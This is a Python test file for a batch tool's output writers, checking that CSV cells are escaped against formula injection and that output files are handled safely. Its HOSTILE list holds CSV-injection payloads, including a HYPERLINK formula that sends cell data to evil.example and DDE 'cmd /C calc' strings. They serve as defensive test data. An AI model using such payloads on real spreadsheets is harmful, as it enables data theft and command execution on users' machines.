"""The outputs: readable by json, csv and pyarrow; hostile text made inert in CSV; existing outputs."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pyarrow.parquet as pyarrow_parquet
import pytest
from hypothesis import given
from hypothesis import strategies as st

from argmap.batching import write_batch
from argmap.batching.outputs import done_files, journal_path, open_writer, output_kind
from argmap.batching.records import analyse_file, columns, error_record
from argmap.errors import OutputError, UsageError
from argmap.escape import CSV_FORMULA_TRIGGERS, csv_cell, csv_cell_value
from tests.batch.conftest import BAD, CHAINED, GOOD, write

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    'a "quoted", comma\nand a newline',
]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_csv_cell_never_starts_a_formula(text: str) -> None:
    cell = csv_cell(text)
    assert not cell.startswith(CSV_FORMULA_TRIGGERS)
    assert csv_cell_value(cell) == text


@given(st.text())
def test_csv_cell_is_undone_exactly(text: str) -> None:
    assert csv_cell_value(csv_cell(text)) == text
    assert csv_cell(text) == text or csv_cell(text) == "'" + text


def test_hostile_file_names_and_messages_are_inert_in_the_csv(tmp_path: Path) -> None:
    out = tmp_path / "rows.csv"
    with open_writer(out, ("chains",)) as writer:
        for i, text in enumerate(HOSTILE):
            writer.write(error_record(text, "parse", text, ("chains",), format=text))
            if i == 0:
                writer.write(analyse_file(write(tmp_path, "=cmd.yaml", CHAINED), ("chains",)))
    with out.open(newline="", encoding="utf-8") as stream:
        rows = list(csv.reader(stream))
    assert rows[0] == [name for name, _ in columns(("chains",))]
    for row in rows[1:]:
        assert not any(cell.startswith(CSV_FORMULA_TRIGGERS) for cell in row), row
    assert [csv_cell_value(row[0]) for row in rows[1:]][2:] == HOSTILE[1:]
    assert csv_cell_value(rows[2][0]).endswith("=cmd.yaml") and rows[2][16] == "2"
    assert done_files(out, ("chains",))[2:] == HOSTILE[1:]


@pytest.mark.parametrize("suffix", [".jsonl", ".csv", ".parquet"])
def test_every_output_holds_one_row_per_file(corpus: Path, tmp_path: Path, suffix: str) -> None:
    out = tmp_path / f"results{suffix}"
    summary = write_batch([corpus], out, "chains,strength", jobs=2)
    assert (summary.written, summary.failed, summary.ignored) == (len(GOOD) + len(BAD), len(BAD), 2)
    if suffix == ".jsonl":
        rows = [json.loads(line) for line in out.read_text(encoding="utf-8").splitlines()]
        assert all(set(row["results"]) == {"chains", "strength"} for row in rows)
        chained = next(row for row in rows if row["file"].endswith("chained.yaml"))
        assert chained["results"]["chains"]["count"] == 2 == chained["chains"]
    elif suffix == ".csv":
        with out.open(newline="", encoding="utf-8") as stream:
            rows = list(csv.DictReader(stream))
        chained = next(row for row in rows if row["file"].endswith("chained.yaml"))
        assert chained["chains"] == "2" and chained["claim"] == "C"
    else:
        table = pyarrow_parquet.read_table(out)
        rows = table.to_pylist()
        assert table.schema.field("chains").type == "int64"
        assert table.schema.field("claim_strength").type == "double"
        assert not journal_path(out).exists()
    assert {Path(row["file"]).name for row in rows} == GOOD | set(BAD)
    assert {Path(r["file"]).name: r["error_kind"] for r in rows if r["status"] == "error"} == BAD
    assert [name for name, _ in columns(("chains", "strength"))] == [k for k in rows[0] if k != "results"]


def test_an_existing_output_is_refused_unless_resumed_or_forced(corpus: Path, tmp_path: Path) -> None:
    out = tmp_path / "results.jsonl"
    out.write_text("precious\n")
    with pytest.raises(OutputError, match="exists: --resume to continue it, --force to replace it"):
        write_batch([corpus], out, jobs=1)
    assert out.read_text() == "precious\n"
    with pytest.raises(OutputError, match=r"results.jsonl:1: not a batch row"):
        write_batch([corpus], out, jobs=1, resume=True)
    with pytest.raises(UsageError, match="not both"):
        write_batch([corpus], out, jobs=1, resume=True, overwrite=True)
    assert write_batch([corpus], out, "chains", jobs=1, overwrite=True).written == len(GOOD) + len(BAD)


def test_an_output_of_other_analyses_is_not_resumed(corpus: Path, tmp_path: Path) -> None:
    for suffix in (".jsonl", ".csv", ".parquet"):
        out = tmp_path / f"results{suffix}"
        write_batch([corpus / "chained.yaml"], out, "chains", jobs=1)
        other = r"columns of other analyses \(chains\), not of chains, strength"
        with pytest.raises(UsageError, match=other):
            write_batch([corpus], out, "chains,strength", jobs=1, resume=True)


def test_an_output_of_another_format_is_not_resumed(corpus: Path, tmp_path: Path) -> None:
    jsonl, csv_named = tmp_path / "results.jsonl", tmp_path / "results.csv"
    write_batch([corpus / "chained.yaml"], jsonl, "chains", jobs=1)
    csv_named.write_bytes(jsonl.read_bytes())
    with pytest.raises(OutputError, match=r"results\.csv: not a batch output"):
        write_batch([corpus], csv_named, "chains", jobs=1, resume=True)
    parquet_named = tmp_path / "results.parquet"
    parquet_named.write_bytes(jsonl.read_bytes())
    with pytest.raises(OutputError, match=r"results\.parquet: not a readable Parquet file"):
        write_batch([corpus], parquet_named, "chains", jobs=1, resume=True)


def test_the_output_may_not_be_an_input(tmp_path: Path) -> None:
    out = tmp_path / "results.csv"
    out.write_text("x")
    with pytest.raises(OutputError, match="refusing to write over the input file"):
        write_batch([out], out, jobs=1, overwrite=True)
    assert out.read_text() == "x"


def test_output_suffixes() -> None:
    with pytest.raises(UsageError, match=r"must end in \.jsonl, \.csv or \.parquet"):
        output_kind("results.xlsx")
